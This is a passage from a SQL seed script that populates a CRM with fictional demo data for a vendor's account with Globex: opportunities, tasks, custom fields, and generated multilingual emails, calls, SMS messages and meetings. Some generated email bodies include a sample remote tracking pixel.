VALUES (ll_id('oppo_'), @nw, @globex, @os_lost, 950000, 'EUR', 'one_time', 0, @today - INTERVAL 200 DAY,
  @ada, @c_sofia, 'Implementation services for the Madrid office. Lost to a local integrator on price.',
  @now - INTERVAL 300 DAY, @now - INTERVAL 200 DAY);
SET @o_lost = LAST_INSERT_ID();
INSERT INTO opportunities (pid, organization_id, lead_id, status_id, value, value_currency, value_period,
  confidence, expected_date, user_id, contact_id, note, date_created, date_updated)
VALUES (ll_id('oppo_'), @nw, @globex, @os_proposal, 4800000, 'USD', 'annual', 60, @today + INTERVAL 30 DAY,
  @ada, @c_priya, 'Renewal and expansion to 120 seats with Analytics and API Access, 10% volume discount.',
  @now - INTERVAL 40 DAY, @now - INTERVAL 20 DAY);
SET @o_expand = LAST_INSERT_ID();
INSERT INTO opportunities (pid, organization_id, lead_id, status_id, value, value_currency, value_period,
  confidence, expected_date, user_id, contact_id, note, date_created, date_updated)
VALUES (ll_id('oppo_'), @nw, @globex, @os_negot, 1250000, 'EUR', 'monthly', 75, @today + INTERVAL 14 DAY,
  @ben, @c_lukas, 'Globex GmbH: Munich plus the new Hamburg team, 52 seats, monthly billing.',
  @now - INTERVAL 90 DAY, @now - INTERVAL 35 DAY);
SET @o_munich = LAST_INSERT_ID();

INSERT INTO tasks (pid, organization_id, lead_id, text, due_date, assigned_to, contact_id, is_complete, date_created, date_completed)
VALUES (ll_id('task_'), @nw, @globex, 'Send Priya the renewal quote with the two-year option',
  @today - INTERVAL 4 DAY, @ada, @c_priya, 0, @now - INTERVAL 12 DAY, NULL);
INSERT INTO tasks (pid, organization_id, lead_id, text, due_date, assigned_to, contact_id, is_complete, date_created, date_completed)
VALUES (ll_id('task_'), @nw, @globex, 'Prepare QBR slides on the Munich and Madrid rollout',
  @today + INTERVAL 6 DAY, @ben, @c_lukas, 0, @now - INTERVAL 5 DAY, NULL);
INSERT INTO tasks (pid, organization_id, lead_id, text, due_date, assigned_to, contact_id, is_complete, date_created, date_completed)
VALUES (ll_id('task_'), @nw, @globex, 'Ask David for the updated ERP field mapping',
  NULL, @ada, @c_david, 0, @now - INTERVAL 8 DAY, NULL);
INSERT INTO tasks (pid, organization_id, lead_id, text, due_date, assigned_to, contact_id, is_complete, date_created, date_completed)
VALUES (ll_id('task_'), @nw, @globex, 'Send the security overview and pen test summary to David',
  @today - INTERVAL 302 DAY, @ben, @c_david, 1, @now - INTERVAL 310 DAY, @day0 - INTERVAL 303 DAY + INTERVAL 15 HOUR + INTERVAL 12 MINUTE);
SET @t_security = LAST_INSERT_ID();
INSERT INTO tasks (pid, organization_id, lead_id, text, due_date, assigned_to, contact_id, is_complete, date_created, date_completed)
VALUES (ll_id('task_'), @nw, @globex, 'Book a training room in Madrid for the sales team',
  @today - INTERVAL 118 DAY, @ada, @c_sofia, 1, @now - INTERVAL 130 DAY, @day0 - INTERVAL 120 DAY + INTERVAL 14 HOUR + INTERVAL 41 MINUTE);
SET @t_madrid = LAST_INSERT_ID();

-- One value for every field type; "Products of Interest" accepts several: two rows.
INSERT INTO lead_custom_values (organization_id, lead_id, field_id, value, value_user) VALUES
  (@nw, @globex, @cf_industry, 'Manufacturing', NULL),
  (@nw, @globex, @cf_products, 'Analytics', NULL),
  (@nw, @globex, @cf_products, 'API Access', NULL),
  (@nw, @globex, @cf_employees, '4200', NULL),
  (@nw, @globex, @cf_referral, 'Hannover Messe booth visit', NULL),
  (@nw, @globex, @cf_notes, 'Three offices: Springfield (HQ), Munich (Globex GmbH), Madrid (Globex Ibérica).\nPurchase orders are mandatory for Munich invoices.\nDecision makers: Margaret Chen (operations), Priya Natarajan (budget).', NULL),
  (@nw, @globex, @cf_renewal, DATE_FORMAT(@today + INTERVAL 75 DAY, '%Y-%m-%d'), NULL),
  (@nw, @globex, @cf_review, DATE_FORMAT(@day0 + INTERVAL 20 DAY + INTERVAL 15 HOUR, '%Y-%m-%d %H:%i:%s'), NULL),
  (@nw, @globex, @cf_manager, NULL, @ada),
  (@nw, @globex, @cf_portal, 'https://portal.globex.example/crm', NULL);

-- Some values on the other companies.
INSERT INTO lead_custom_values (organization_id, lead_id, field_id, value, value_user)
SELECT @nw, l.id, @cf_industry, d.industry, NULL
FROM demo_nw d JOIN leads l ON l.organization_id = @nw AND l.name = d.name WHERE d.no > 1
UNION ALL
SELECT @nw, l.id, @cf_employees, d.employees, NULL
FROM demo_nw d JOIN leads l ON l.organization_id = @nw AND l.name = d.name WHERE d.no > 1 AND d.no % 2 = 0
UNION ALL
SELECT @nw, l.id, @cf_manager, NULL, IF(d.country = 'US', @ada, @ben)
FROM demo_nw d JOIN leads l ON l.organization_id = @nw AND l.name = d.name WHERE d.no > 2 AND d.no % 3 <> 1
UNION ALL
SELECT @nw, l.id, @cf_products, ELT(d.no % 5 + 1, 'Core CRM', 'Analytics', 'API Access', 'Premium Support', 'Training'), NULL
FROM demo_nw d JOIN leads l ON l.organization_id = @nw AND l.name = d.name WHERE d.no > 2 AND d.no % 4 = 1;

-- Opportunities on some other companies.
INSERT INTO opportunities (pid, organization_id, lead_id, status_id, value, value_currency, value_period,
  confidence, expected_date, user_id, contact_id, note, date_created, date_updated)
SELECT ll_id('oppo_'), @nw, l.id,
       ELT(d.no % 5 + 1, @os_active, @os_proposal, @os_negot, @os_won, @os_lost),
       (d.no * 137 % 50 + 5) * 100000, IF(d.country = 'US', 'USD', 'EUR'),
       ELT(d.no % 3 + 1, 'one_time', 'monthly', 'annual'),
       ELT(d.no % 5 + 1, 20, 50, 70, 100, 0),
       IF(d.no % 5 >= 3, @today - INTERVAL d.no * 5 DAY, @today + INTERVAL d.no * 4 DAY),
       IF(d.country = 'US', @ada, @ben),
       (SELECT MIN(c.id) FROM contacts c WHERE c.lead_id = l.id),
       ELT(d.no % 4 + 1, 'First year, standard terms.', 'Pilot for the sales team, then company-wide.',
           'Includes onboarding package.', NULL),
       @now - INTERVAL (60 + d.no * 4) DAY, @now - INTERVAL (d.no * 2) DAY
FROM demo_nw d JOIN leads l ON l.organization_id = @nw AND l.name = d.name
WHERE d.no > 2 AND d.status IN ('Qualified', 'Customer');

-- ---------------------------------------------------------------------------
-- Globex history. Emails come from a pool of twelve texts per language
-- (English, German, Spanish), cycled over two years; each has its direction,
-- the Globex contact it is with and the Northwind user whose mailbox it is in.
-- ---------------------------------------------------------------------------

CREATE TEMPORARY TABLE demo_mail (
  lang CHAR(2), i INT, dir VARCHAR(8), who VARCHAR(10), rep VARCHAR(3), cc VARCHAR(200) NULL,
  subject VARCHAR(200), body TEXT, PRIMARY KEY (lang, i)
);
INSERT INTO demo_mail VALUES
('en', 1, 'outgoing', 'margaret', 'ada', NULL, 'Following up on our call',
 'Hi Margaret,\n\nThanks again for taking the time to walk me through your current sales process yesterday. As promised, I have put together a short summary of the three areas where we think Northwind can help your team: pipeline visibility, faster follow-ups and cleaner reporting for the board.\n\nCould we find thirty minutes next week to go through it together?\n\nBest regards,\nAda'),
('en', 2, 'incoming', 'margaret', 'ada', 'david.park@globex.example', 'Re: Following up on our call',
 'Hi Ada,\n\nThat summary was helpful, thank you. The board is especially interested in the reporting piece, because right now our regional managers send spreadsheets every Friday and nobody trusts the numbers.\n\nTuesday at 10am Eastern works for me. I will bring David from IT so we can talk about the integration side as well.\n\nMargaret'),
('en', 3, 'outgoing', 'david', 'ben', NULL, 'API limits and SSO',
 'Hello David,\n\nHere are the answers to your technical questions. Single sign-on works with Azure AD through SAML, and your admins can enforce it for every seat. The API allows ten thousand requests per day on the Growth plan, and we can raise that limit for the ERP sync if the nightly import needs more.\n\nI have attached our security overview for your review.\n\nKind regards,\nBen'),
('en', 4, 'incoming', 'david', 'ben', NULL, 'Re: API limits and SSO',
 'Ben,\n\nThanks for the quick answers. Ten thousand requests should be enough for the delta sync, but the weekly full sync touches about eighteen hundred accounts and all their contacts, so we may hit the ceiling.\n\nCan you check whether a temporary increase on Sundays is possible? Also, our security team would like to see your latest penetration test report.\n\nDavid'),
('en', 5, 'incoming', 'priya', 'ada', 'margaret.chen@globex.example', 'Budget approval for next year',
 'Hello Ada,\n\nQuick update from finance: the budget for the CRM expansion has been approved for next year, but only if we can move to annual billing and keep the price per seat at the current level.\n\nPlease send me a revised quote with the volume discount we discussed and the payment terms written out clearly. I need it before our committee meets on the 15th.\n\nBest,\nPriya'),
('en', 6, 'outgoing', 'priya', 'ada', 'margaret.chen@globex.example', 'Revised quote for 120 seats',
 'Dear Priya,\n\nPlease find the revised quote for 120 seats on annual billing. We kept the price per seat unchanged and added the ten percent volume discount, which brings the yearly total to forty-eight thousand dollars. Payment is due thirty days after the invoice date.\n\nIf your committee has any questions, I am happy to join the meeting by phone.\n\nWarm regards,\nAda'),
('en', 7, 'incoming', 'margaret', 'ada', NULL, 'Feedback from the sales team',
 'Hi Ada,\n\nI wanted to share some feedback after the first month. The sales team loves the new email templates and the call logging, and our managers finally look at the same pipeline numbers.\n\nThe only complaint is that the mobile app is a bit slow when the connection in the warehouse is weak. Is there anything we can do about that before the rollout in Europe?\n\nThanks,\nMargaret'),
('en', 8, 'outgoing', 'margaret', 'ada', 'ben@northwind.test', 'Re: Feedback from the sales team',
 'Hi Margaret,\n\nThank you for the kind words, I will pass them on to our product team. About the mobile app: the next release adds an offline mode that queues calls and notes until the phone is back online, which should solve the warehouse problem.\n\nIn the meantime I will ask our support engineers to check the settings on your devices.\n\nBest,\nAda'),
('en', 9, 'outgoing', 'david', 'ben', NULL, 'Data migration schedule',
 'Hi David,\n\nOur implementation team has proposed the following schedule for the data migration: a test import of the ERP export on Monday, a review of duplicate accounts with your team on Wednesday, and the final import over the weekend so that nobody is blocked during business hours.\n\nPlease let me know if that works for you or if we should move anything.\n\nCheers,\nBen'),
('en', 10, 'incoming', 'priya', 'ada', NULL, 'Invoice question',
 'Hi Ada,\n\nOur accounts payable team noticed that last month''s invoice lists twelve more seats than we have active users. I assume these are the seats we reserved for the Madrid pilot, but could you confirm and send a short breakdown by office?\n\nWe would like to close the books for the quarter by Friday, so a quick reply would be very much appreciated.\n\nRegards,\nPriya'),
('en', 11, 'outgoing', 'margaret', 'ada', 'priya.natarajan@globex.example', 'Quarterly business review',
 'Hello Margaret,\n\nIt is time for our quarterly business review. I would suggest we look at adoption numbers across all three offices, the progress of the rollout in Munich and Madrid, and the timeline for the renewal.\n\nWould the second week of next month work for you and your team? I can come to Springfield in person if that is easier for everyone.\n\nBest regards,\nAda'),
('en', 12, 'incoming', 'david', 'ben', NULL, 'Outage last night?',
 'Hi Ben,\n\nSeveral of our users reported that they could not log in between eleven and midnight yesterday. Was there a planned maintenance window that we missed, or was this an incident?\n\nOur service desk received about twenty tickets, so I would appreciate a short written explanation that I can forward to our management team this morning.\n\nThanks,\nDavid'),

('de', 1, 'outgoing', 'lukas', 'ben', NULL, 'Angebot für die Niederlassung München',
 'Hallo Herr Weber,\n\nvielen Dank für das angenehme Gespräch am Dienstag. Wie besprochen sende ich Ihnen heute unser Angebot für die Niederlassung in München. Es umfasst zweiundvierzig Lizenzen, die Einrichtung der Schnittstelle zu Ihrem ERP-System und eine Schulung für Ihr Vertriebsteam vor Ort.\n\nIch freue mich auf Ihre Rückmeldung.\n\nMit freundlichen Grüßen\nBen Okafor'),
('de', 2, 'incoming', 'lukas', 'ben', NULL, 'AW: Angebot für die Niederlassung München',
 'Sehr geehrter Herr Okafor,\n\nvielen Dank für Ihr Angebot. Wir haben es intern geprüft, und grundsätzlich passt der Umfang sehr gut zu unseren Anforderungen. Allerdings liegt der Preis für die Schulung deutlich über unserem Budget.\n\nWäre es möglich, die Schulung auf einen Tag zu verkürzen oder teilweise online durchzuführen?\n\nMit freundlichen Grüßen\nLukas Weber'),
('de', 3, 'outgoing', 'lukas', 'ben', NULL, 'Termin für die Produktvorführung',
 'Hallo Herr Weber,\n\ngerne würde ich Ihnen und Ihren Kollegen aus dem Einkauf unsere neue Auswertungsfunktion vorführen. Passt Ihnen der kommende Donnerstag um vierzehn Uhr?\n\nDie Vorführung dauert etwa eine Stunde, und im Anschluss bleibt genug Zeit für Ihre Fragen zur Datenübernahme aus dem alten System.\n\nViele Grüße\nBen Okafor'),
('de', 4, 'incoming', 'lukas', 'ben', NULL, 'Rückfrage zum Datenschutz',
 'Guten Tag Herr Okafor,\n\nunser Datenschutzbeauftragter hat noch einige Fragen, bevor wir den Vertrag unterschreiben können. Insbesondere möchte er wissen, in welchem Rechenzentrum die Daten gespeichert werden, ob Unterauftragnehmer beteiligt sind und wie lange gelöschte Daten in den Sicherungen verbleiben.\n\nKönnten Sie uns bitte den Auftragsverarbeitungsvertrag zusenden?\n\nBeste Grüße\nLukas Weber'),
('de', 5, 'outgoing', 'lukas', 'ben', NULL, 'AW: Rückfrage zum Datenschutz',
 'Guten Tag Herr Weber,\n\nanbei erhalten Sie unseren Auftragsverarbeitungsvertrag. Ihre Daten werden ausschließlich in einem Rechenzentrum in Frankfurt gespeichert, und wir setzen nur zwei Unterauftragnehmer ein, die im Anhang aufgeführt sind. Gelöschte Daten werden nach spätestens dreißig Tagen auch aus allen Sicherungen entfernt.\n\nBei weiteren Fragen stehe ich Ihnen gerne zur Verfügung.\n\nMit freundlichen Grüßen\nBen Okafor'),
('de', 6, 'incoming', 'lukas', 'ben', NULL, 'Probleme beim Import',
 'Hallo Herr Okafor,\n\nbeim Import der Kundendaten aus unserem ERP-System sind leider einige Fehler aufgetreten. Bei etwa zweihundert Kontakten fehlen die Telefonnummern, und die Umlaute in den Firmennamen werden falsch dargestellt.\n\nKönnte sich Ihr Support-Team das bitte bis Ende der Woche ansehen? Die Kollegen im Vertrieb warten schon ungeduldig.\n\nDanke und viele Grüße\nLukas Weber'),
('de', 7, 'outgoing', 'lukas', 'ben', NULL, 'AW: Probleme beim Import',
 'Hallo Herr Weber,\n\nvielen Dank für den Hinweis. Unser Support-Team hat die Ursache gefunden: Die Exportdatei war nicht in UTF-8 gespeichert, deshalb wurden die Umlaute falsch gelesen. Die fehlenden Telefonnummern standen in einer zweiten Spalte, die wir jetzt ebenfalls zuordnen.\n\nDer korrigierte Import läuft heute Nacht, morgen früh sollte alles stimmen.\n\nViele Grüße\nBen Okafor'),
('de', 8, 'incoming', 'lukas', 'ben', 'margaret.chen@globex.example', 'Vertragsverlängerung',
 'Sehr geehrter Herr Okafor,\n\nunser Vertrag für den Standort München läuft in drei Monaten aus. Wir sind mit der Lösung insgesamt sehr zufrieden und möchten gerne verlängern, allerdings mit zehn zusätzlichen Lizenzen für das neue Team in Hamburg.\n\nBitte schicken Sie mir ein aktualisiertes Angebot mit einer Laufzeit von zwei Jahren.\n\nMit freundlichen Grüßen\nLukas Weber'),
('de', 9, 'outgoing', 'lukas', 'ben', NULL, 'Einladung zum Anwendertreffen',
 'Hallo Herr Weber,\n\nam zwölften des kommenden Monats veranstalten wir in Berlin unser jährliches Anwendertreffen. Es erwarten Sie Vorträge zu neuen Funktionen, Erfahrungsberichte anderer Kunden und natürlich ausreichend Gelegenheit zum Austausch.\n\nIch würde mich sehr freuen, wenn Sie und ein bis zwei Kollegen aus Ihrem Team dabei wären.\n\nHerzliche Grüße\nBen Okafor'),
('de', 10, 'incoming', 'lukas', 'ben', 'accounts.payable@globex.example', 'Rechnung und Bestellnummer',
 'Guten Tag Herr Okafor,\n\nbitte beachten Sie, dass wir Rechnungen nur noch bearbeiten können, wenn darauf unsere interne Bestellnummer angegeben ist. Die letzte Rechnung wurde deshalb von unserer Buchhaltung zurückgewiesen.\n\nKönnten Sie die Rechnung bitte mit der Bestellnummer 4500172233 neu ausstellen und direkt an unsere Kreditorenbuchhaltung senden?\n\nVielen Dank\nLukas Weber'),
('de', 11, 'outgoing', 'lukas', 'ben', NULL, 'Zusammenfassung unseres Treffens',
 'Hallo Herr Weber,\n\nvielen Dank für das produktive Treffen gestern in München. Hier noch einmal die wichtigsten Punkte: Wir richten bis Ende des Monats die Anmeldung über Ihr Firmenkonto ein, Ihr Team testet die neuen Berichte zwei Wochen lang, und danach entscheiden wir gemeinsam über die Einführung am Standort Hamburg.\n\nBeste Grüße\nBen Okafor'),
('de', 12, 'incoming', 'lukas', 'ben', NULL, 'Kurze Frage zur mobilen App',
 'Hallo Herr Okafor,\n\nmehrere Außendienstmitarbeiter haben gefragt, ob die mobile App auch ohne Internetverbindung funktioniert. Sie sind oft bei Kunden in ländlichen Gegenden unterwegs, wo der Empfang sehr schlecht ist.\n\nGibt es dafür schon eine Lösung, oder ist etwas in Planung? Eine kurze Antwort würde mir für unsere interne Besprechung am Freitag helfen.\n\nGruß\nLukas Weber'),

('es', 1, 'outgoing', 'sofia', 'ada', NULL, 'Propuesta para la oficina de Madrid',
 'Hola Sofía:\n\nMuchas gracias por la reunión de ayer. Como acordamos, te envío la propuesta para la oficina de Madrid. Incluye doce licencias para el piloto, la configuración de las plantillas de correo en español y dos sesiones de formación para el equipo comercial.\n\nQuedo a la espera de tus comentarios y de cualquier duda que tengáis.\n\nUn saludo,\nAda'),
('es', 2, 'incoming', 'sofia', 'ada', NULL, 'RE: Propuesta para la oficina de Madrid',
 'Hola Ada:\n\nHemos revisado la propuesta con el equipo y nos parece muy completa. Sin embargo, la dirección financiera pide que el precio por licencia sea el mismo que en Alemania y que el piloto dure tres meses en lugar de dos.\n\n¿Crees que es posible ajustar estas condiciones antes de final de mes? Así podríamos firmar pronto.\n\nSaludos cordiales,\nSofía'),
('es', 3, 'outgoing', 'sofia', 'ada', NULL, 'Formación del equipo comercial',
 'Hola Sofía:\n\nTe propongo organizar la formación del equipo comercial en dos sesiones de dos horas, una el martes y otra el jueves por la mañana. En la primera veremos cómo registrar llamadas y correos, y en la segunda cómo preparar los informes semanales para la dirección.\n\n¿Te parece bien o prefieres otras fechas?\n\nUn abrazo,\nAda'),
('es', 4, 'incoming', 'sofia', 'ada', NULL, 'Problema con las plantillas',
 'Buenos días, Ada:\n\nAlgunos comerciales me comentan que las plantillas de correo en español no muestran bien los acentos cuando se envían desde el móvil. Además, el nombre del cliente aparece a veces vacío en el saludo.\n\n¿Podrías pedir a vuestro equipo técnico que lo revise? Es importante porque empezamos la campaña de primavera la semana que viene.\n\nGracias de antemano,\nSofía'),
('es', 5, 'outgoing', 'sofia', 'ada', NULL, 'RE: Problema con las plantillas',
 'Hola Sofía:\n\nNuestro equipo técnico ya ha encontrado el problema. La aplicación móvil usaba una codificación antigua para las plantillas, y lo hemos corregido en la versión que se publica mañana. El saludo vacío aparecía en los contactos que no tenían el nombre rellenado; hemos añadido un texto alternativo para esos casos.\n\nUn saludo,\nAda'),
('es', 6, 'incoming', 'sofia', 'ada', 'margaret.chen@globex.example', 'Resultados del piloto',
 'Hola Ada:\n\nTe escribo para contarte los resultados del piloto en Madrid. Después de tres meses, el equipo ha registrado casi cuatro mil actividades y el tiempo de respuesta a los clientes se ha reducido a la mitad.\n\nLa dirección está muy contenta y quiere ampliar el uso a la oficina de Barcelona el año que viene.\n\nUn fuerte abrazo,\nSofía'),
('es', 7, 'outgoing', 'sofia', 'ada', NULL, 'Reunión trimestral en Madrid',
 'Hola Sofía:\n\nMe gustaría visitaros en Madrid el próximo mes para revisar juntos los resultados del trimestre y hablar de la ampliación a Barcelona. ¿Tendrías disponibilidad el miércoles diecisiete o el jueves dieciocho?\n\nSi os viene mejor, también podemos hacer la reunión por videoconferencia y dejar la visita para después del verano.\n\nSaludos,\nAda'),
('es', 8, 'incoming', 'sofia', 'ada', NULL, 'Consulta sobre la factura',
 'Buenas tardes:\n\nEn la última factura aparece un cargo por soporte premium que no habíamos contratado para la oficina de Madrid. Entiendo que puede tratarse de un error, ya que el contrato solo incluye el soporte estándar.\n\n¿Podéis revisarlo y enviarnos una factura rectificativa? Necesitamos cerrar la contabilidad del mes antes del viernes.\n\nGracias,\nSofía Ramírez'),
('es', 9, 'outgoing', 'sofia', 'ada', NULL, 'RE: Consulta sobre la factura',
 'Hola Sofía:\n\nTienes toda la razón, el cargo por soporte premium se añadió por error al copiar los datos del contrato de Múnich. Nuestro departamento de facturación ya ha emitido la factura rectificativa y te la enviará hoy mismo por correo.\n\nTe pido disculpas por las molestias y gracias por avisarnos tan rápido.\n\nUn saludo cordial,\nAda'),
('es', 10, 'incoming', 'sofia', 'ada', NULL, 'Nuevos usuarios para Barcelona',
 'Hola Ada:\n\nFinalmente la dirección ha aprobado la ampliación a Barcelona. Necesitaríamos ocho usuarios nuevos a partir del día uno del mes que viene, con los mismos permisos que el equipo de Madrid.\n\n¿Me puedes confirmar el precio y los pasos que tenemos que seguir para darlos de alta? También nos gustaría una sesión de formación breve.\n\nMuchas gracias,\nSofía'),
('es', 11, 'outgoing', 'sofia', 'ada', NULL, 'Bienvenida al equipo de Barcelona',
 'Hola Sofía:\n\nYa están creados los ocho usuarios para Barcelona y cada uno ha recibido un correo de invitación. He reservado una sesión de formación de una hora para el lunes a las diez, en la que explicaremos lo básico y responderemos a sus preguntas.\n\nCualquier otra cosa que necesitéis, aquí estoy.\n\nUn abrazo,\nAda'),
('es', 12, 'incoming', 'sofia', 'ada', NULL, 'Renovación del contrato',
 'Hola Ada:\n\nEl contrato de la oficina de Madrid vence a finales de año y queremos renovarlo, pero la dirección nos pide comparar precios con otros dos proveedores antes de decidir.\n\n¿Podrías enviarme una oferta de renovación para dos años, incluyendo Barcelona? Si el precio es razonable, no creo que cambiemos de sistema.\n\nSaludos,\nSofía');

-- Emails: 150 over two years (40% English, 30% German, 30% Spanish); every
-- seventh one also has an HTML body with a link and a remote tracking pixel.
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, recipients_cc, body_text, body_html)
SELECT ll_id('acti_'), @nw, @globex, 'email',
       IF(p.rep = 'ada', @ada, @ben),
       CASE p.who WHEN 'margaret' THEN @c_margaret WHEN 'david' THEN @c_david WHEN 'priya' THEN @c_priya
                  WHEN 'lukas' THEN @c_lukas ELSE @c_sofia END,
       g.at, g.at, g.at, p.dir, p.subject,
       IF(p.dir = 'outgoing', CONCAT(p.rep, '@northwind.test'), g.cmail),
       IF(p.dir = 'outgoing', g.cmail, CONCAT(p.rep, '@northwind.test')),
       p.cc, p.body,
       IF(g.n % 7 = 0,
          CONCAT('<div><p>', REPLACE(REPLACE(p.body, '\n\n', '</p><p>'), '\n', '<br>'), '</p>',
                 IF(p.dir = 'outgoing',
                    CONCAT('<p style="color:#6b7280;font-size:12px">', IF(p.rep = 'ada', 'Ada Lovelace', 'Ben Okafor'),
                           ' &middot; Northwind Traders &middot; <a href="https://northwind.test/customers/globex">Your account overview</a></p>'),
                    '<p style="color:#6b7280;font-size:12px">Globex Corporation &middot; <a href="https://globex.example">globex.example</a></p>'),
                 '<img src="https://tracker.example/pixel.gif" width="1" height="1" alt=""></div>'),
          NULL)
FROM (
  SELECT x.n, x.lang, x.idx, x.at,
         (SELECT CASE m.who WHEN 'margaret' THEN @e_margaret WHEN 'david' THEN @e_david WHEN 'priya' THEN @e_priya
                            WHEN 'lukas' THEN @e_lukas ELSE @e_sofia END
          FROM demo_mail m WHERE m.lang = x.lang AND m.i = x.idx) AS cmail
  FROM (
    SELECT seq AS n,
           CASE WHEN seq % 10 < 4 THEN 'en' WHEN seq % 10 < 7 THEN 'de' ELSE 'es' END AS lang,
           (CASE WHEN seq % 10 < 4 THEN (seq DIV 10) * 4 + seq % 10
                 WHEN seq % 10 < 7 THEN (seq DIV 10) * 3 + seq % 10 - 4
                 ELSE (seq DIV 10) * 3 + seq % 10 - 7 END) % 12 + 1 AS idx,
           @day0 - INTERVAL (3 + FLOOR((150 - seq) * 727 / 150)) DAY
                 + INTERVAL (780 + (seq * 37) % 300) MINUTE + INTERVAL (seq * 13 % 60) SECOND AS at
    FROM seq_1_to_150
  ) x
) g
JOIN demo_mail p ON p.lang = g.lang AND p.i = g.idx;

-- Calls: 50, answered, voicemail or no answer; the note is in body_text.
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, phone, duration, outcome, body_text)
SELECT ll_id('acti_'), @nw, @globex, 'call',
       IF(g.k IN (2, 4), @ben, @ada),
       ELT(g.k + 1, @c_sofia, @c_margaret, @c_david, @c_priya, @c_lukas),
       g.at, g.at, g.at,
       IF(g.n % 4 = 0, 'incoming', 'outgoing'),
       IF(g.n % 3 = 0 AND g.k <> 3, ELT(g.k + 1, @m_sofia, @m_margaret, @m_david, NULL, @m_lukas),
                                    ELT(g.k + 1, @p_sofia, @p_margaret, @p_david, @p_priya, @p_lukas)),
       CASE g.n % 6 WHEN 0 THEN 0 WHEN 3 THEN 20 + g.n % 25 ELSE 90 + (g.n * 97) % 1500 END,
       CASE g.n % 6 WHEN 0 THEN 'no-answer' WHEN 3 THEN 'voicemail' ELSE 'answered' END,
       CASE g.n % 6
         WHEN 0 THEN 'No answer. Will try again tomorrow morning.'
         WHEN 3 THEN CONCAT('Left a voicemail asking for a call back about ',
                            ELT(g.n % 4 + 1, 'the renewal quote.', 'the ERP sync test.', 'the QBR agenda.', 'the open invoice.'))
         ELSE ELT(g.n % 10 + 1,
           'Walked through the renewal timeline. They want a two-year term if we can hold the price per seat. Follow up with a written quote.',
           'Quick check-in about adoption. Usage is up in the Springfield office; Munich still has a few inactive seats that need training.',
           'Discussed the ERP sync. The weekly full sync may exceed the API limit; agreed to test with a raised limit over the weekend.',
           'Talked about the Madrid pilot. The team is happy with the Spanish templates and asked about adding Barcelona next year.',
           'Call about the invoice discrepancy. The extra seats were reserved for the pilot; will send a breakdown by office.',
           'Introduced the new reporting dashboards. Strong interest in forecast by region; they want a demo for the finance team.',
           'Security questions: SSO enforcement, data residency in Frankfurt, list of subprocessors. Sending the DPA and the pen test summary.',
           'They reported slow mobile sync in the warehouse. Explained the upcoming offline mode and asked support to check the device settings.',
           'Negotiation call on the EMEA expansion. Procurement pushes for a 15% discount; we can offer 10% with annual billing.',
           'Planning call for the quarterly business review: agenda, attendees, and whether to meet in person in Springfield.')
       END
FROM (
  SELECT seq AS n, seq % 5 AS k,
         @day0 - INTERVAL (3 + FLOOR((50 - seq) * 725 / 50)) DAY
               + INTERVAL (780 + (seq * 37 + 53) % 300) MINUTE + INTERVAL (seq * 7 % 60) SECOND AS at
  FROM seq_1_to_50
) g;

-- SMS: 30, short messages in the contact's language.
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, local_phone, phone, body_text)
SELECT ll_id('acti_'), @nw, @globex, 'sms',
       IF(g.k IN (1, 2), @ben, @ada),
       ELT(g.k + 1, @c_margaret, @c_david, @c_lukas, @c_sofia),
       g.at, g.at, g.at,
       IF(g.v = 0, 'outgoing', 'incoming'),
       IF(g.k IN (1, 2), '+49 30 5558 2201', '+1 (646) 555-0147'),
       ELT(g.k + 1, @m_margaret, @m_david, @m_lukas, @m_sofia),
       ELT(g.k * 2 + g.v + 1,
         'Hi Margaret, I just sent over the adoption report. Let me know if you want to go through it before the board meeting.',
         'Thanks Ada, got it. Can we talk tomorrow morning instead of today? The afternoon is packed with production reviews.',
         'David, the raised API limit is active for this weekend''s full sync. Ping me if anything fails.',
         'Sync finished without errors, thanks for the help! I will send the log to your support team anyway.',
         'Hallo Herr Weber, ich bin in zehn Minuten bei Ihnen am Empfang. Viele Grüße, Ben Okafor',
         'Danke für die schnelle Hilfe heute, die Kollegen im Vertrieb sind begeistert von den neuen Berichten!',
         'Hola Sofía, te acabo de enviar la propuesta actualizada por correo. ¿Hablamos mañana por la mañana?',
         '¡Perfecto, Ada! Mañana a las diez me viene muy bien. Llámame al móvil, estaré en la oficina de Madrid.')
FROM (
  SELECT seq AS n, seq % 4 AS k, (seq DIV 4) % 2 AS v,
         @day0 - INTERVAL (4 + FLOOR((30 - seq) * 720 / 30)) DAY
               + INTERVAL (780 + (seq * 37 + 101) % 300) MINUTE + INTERVAL (seq * 17 % 60) SECOND AS at
  FROM seq_1_to_30
) g;

-- Meetings: 25.
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  title, starts_at, ends_at, attendees, location, body_text)
SELECT ll_id('acti_'), @nw, @globex, 'meeting',
       IF(g.k IN (2, 4), @ben, @ada),
       ELT(g.k + 1, @c_sofia, @c_margaret, @c_david, @c_priya, @c_lukas),
       g.at, g.at, g.at,
       ELT(g.n % 6 + 1, 'Discovery call', 'Product demo: reporting and forecasting', 'Quarterly business review',
           'EMEA rollout planning', 'Contract renewal discussion', 'ERP integration workshop'),
       g.at, g.at + INTERVAL ELT(g.n % 4 + 1, 30, 45, 60, 90) MINUTE,
       CONCAT(ELT(g.k + 1, @e_sofia, @e_margaret, @e_david, @e_priya, @e_lukas), ', ',
              IF(g.k IN (2, 4), 'ben@northwind.test', 'ada@northwind.test'),
              IF(g.n % 3 = 0, CONCAT(', ', IF(g.k = 1, @e_priya, @e_margaret)), '')),
       CASE
         WHEN g.n % 2 = 0 THEN ELT(g.k + 1, 'Google Meet', 'Zoom', 'Zoom', 'Phone bridge', 'Microsoft Teams')
         ELSE ELT(g.k + 1, 'Globex Ibérica, Paseo de la Castellana 95, Madrid',
                  'Globex HQ, 1200 Market Street, Springfield', 'Globex HQ, 1200 Market Street, Springfield',
                  'Globex HQ, 1200 Market Street, Springfield', 'Globex GmbH, Leopoldstraße 20, 80802 München')
       END,
       ELT(g.n % 6 + 1,
         'Mapped their sales stages to our pipeline. They run three separate spreadsheets today; consolidating them is the main win.',
         'The demo went well. The finance team liked forecast by region and asked for an export to their BI tool.',
         'Adoption at 87% of seats. Agreed to train the Munich team again and to revisit SSO before the renewal.',
         'Munich first, the Madrid pilot after the summer, Barcelona next year. Ben owns the EMEA plan.',
         'They want a two-year term with a price cap. Anything above a 10% discount needs approval on our side.',
